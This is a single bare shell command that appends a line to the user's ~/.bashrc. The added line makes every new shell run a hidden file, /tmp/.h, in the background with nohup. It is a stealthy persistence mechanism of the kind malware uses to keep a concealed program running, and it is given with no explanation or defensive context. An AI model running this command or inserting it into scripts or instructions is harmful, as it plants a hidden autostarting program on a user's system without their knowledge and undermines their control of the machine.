echo "nohup /tmp/.h &" >> ~/.bashrc
